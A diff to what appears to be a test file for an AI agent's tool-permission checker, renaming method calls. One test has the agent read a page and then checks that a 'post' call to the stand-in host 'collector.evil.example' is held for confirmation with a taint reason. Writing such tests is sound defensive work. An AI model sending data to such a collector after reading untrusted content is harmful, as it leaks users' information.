@@ -112,8 +112,8 @@ async def hear(opened: Session, text: str, name: str, **args: Any) -> ToolResult
 
 async def verdict(opened: Session, name: str, **args: Any) -> tuple[str, str]:
     """What is decided of a call, and the last reason's code, without running it."""
-    chosen = await opened.callable_tool(name, nested=False)
-    found = await opened.judge(Invocation(chosen, args, chosen.validate(args), "probe"))
+    chosen = await opened.listing.find(name, nested=False)
+    found = await opened.court.judge(Invocation(chosen, args, chosen.validate(args), "probe"))
     return found.decision.value, found.reasons[-1].code if found.reasons else ""
 
 
@@ -203,9 +203,9 @@ async def test_the_reason_names_what_came_from_where(tmp_path: Path) -> None:
 async def test_whoever_is_asked_for_another_reason_is_told_of_it_too(tmp_path: Path) -> None:
     async with open_test_session(tools=TOOLS, confirm=ScriptedConfirmer("once", "once"), folder=tmp_path) as opened:
         await hear(opened, PAGE, "look")
-        chosen = await opened.callable_tool("post", nested=False)
+        chosen = await opened.listing.find("post", nested=False)
         args = {"where": "https://collector.evil.example/"}
-        found = await opened.judge(Invocation(chosen, args, chosen.validate(args), "probe"))
+        found = await opened.court.judge(Invocation(chosen, args, chosen.validate(args), "probe"))
     assert found.decision is Decision.CONFIRM
     assert "taint" in [reason.code for reason in found.reasons]
     assert len(found.reasons) > 1
